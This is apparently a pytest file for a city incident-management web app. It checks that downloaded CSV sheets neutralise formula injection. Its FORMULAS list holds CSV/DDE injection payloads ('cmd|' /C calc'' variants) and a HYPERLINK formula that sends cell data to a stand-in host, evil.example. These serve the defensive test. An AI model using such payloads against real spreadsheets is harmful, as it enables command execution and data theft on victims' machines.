"""Sheets that are downloaded compute nothing, whoever chose the names that stand in them."""

import ast
import csv
import io
from pathlib import Path
from uuid import uuid4

import pytest

from domain.kernel.act import OPERATOR, Act
from domain.kernel.codes import AreaCode
from tests.city import CITY, HEPING, KAIFENG, SINCE, XIAOBAILOU
from tests.journeys.wall import CHEN, HE, HERE, URBAN, ZHAO, Wall
from tests.security.routes import Walk
from tests.web.test_pages import Browser
from workflows.area.commands import RenameArea
from workflows.people.commands import AnswerFor, EnrolPerson, FoundUnit, GrantRole
from workflows.sheets import harmless

BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＠SUM(1)",
)
WEB = Path(__file__).parents[2] / "web"


@pytest.fixture(scope="module")
def walk(city_on_sqlite, tmp_path_factory):
    """The day of the facade where names of areas, units and people are formulas."""
    from tests.houses import copied

    with copied(city_on_sqlite, tmp_path_factory.mktemp("sheets")) as house:
        wall = Wall(house)
        for number, name in enumerate(FORMULAS):
            _named(house, number, name)
        area = {XIAOBAILOU: FORMULAS[0], KAIFENG: FORMULAS[3]}
        for code, name in area.items():
            _order(house, RenameArea(code=code, name=name, name_en=name, from_day=_day(house)))
        house.catch_up()
        wall.report_and_dispatch()
        wall.blow()
        wall.order("10:00", "sign-for", HE, URBAN)
        wall.order("10:10", "check-in", HE, URBAN, place=HERE, photo="ab" * 32)
        wall.order("10:20", "finish", HE, URBAN, result=FORMULAS[1])
        wall.order("10:30", "rate", ZHAO, URBAN, stars=4, remark=FORMULAS[5])
        body = {"area": f"{KAIFENG}001", "category": "01-02", "source": "grid-member"}
        for words in FORMULAS:
            house.post("/incidents", {**body, "words": words}, house.city.who("acceptor"))
        yield Walk(house, incident=wall.incident, whistle=wall.whistle)


def _day(house):
    return house.clock().date()


def _named(house, number, name):
    code, handle = f"u-sum-{number}", f"p-sum-{number}"
    unit = FoundUnit(code=code, name=name, name_en=name, kind="squad", area=HEPING, from_day=SINCE)
    _order(house, unit)
    _order(house, AnswerFor(code=code, categories=("01",), from_day=SINCE))
    _order(house, EnrolPerson(handle=handle, name=name, key=uuid4().bytes * 2))
    _order(house, GrantRole(handle=handle, role="handler", unit=code, from_day=SINCE))


def _order(house, command):
    act = Act(person=OPERATOR, role=OPERATOR, area=CITY, command_id=str(uuid4()), at=house.clock())
    house.gridward.desk.do(command, act)


def cells_of(text):
    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row]


def is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_cell_of_any_sheet_is_a_formula(walk):
    sheets = {rule.endpoint: path for rule, path in walk.reading() if path.endswith(".csv")}
    wide = {"areas": f"/areas/{AreaCode(HEPING)}.csv", "board": "/board.csv?state=all"}
    read = 0
    for path in {*sheets.values(), *wide.values()}:
        for language in ("en", "zh"):
            answer = Browser(walk.house, CHEN, language=language).get(path)
            assert answer.status_code == 200, path
            assert answer.headers["Content-Disposition"].startswith("attachment")
            cells = cells_of(answer.text)
            read += any("1+1" in cell or "cmd" in cell for cell in cells)
            assert not [one for one in cells if one.startswith(BEGINS) and not is_number(one)]
    assert len(sheets) >= 6, sheets
    assert read >= 4  # the formulas are there, as words


@pytest.mark.parametrize("begins", BEGINS)
def test_what_begins_like_a_formula_gets_an_apostrophe(begins):
    assert harmless(f"{begins}1") == f"'{begins}1"


def test_no_other_file_of_the_web_writes_sheets():
    """So that what holds for one sheet holds for all."""
    writing = {
        path.name
        for path in WEB.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text("utf-8")))
        if isinstance(node, ast.Import)
        and {name.name for name in node.names} & {"csv", "openpyxl", "xlsxwriter"}
    }

    assert writing == {"sheets.py"}
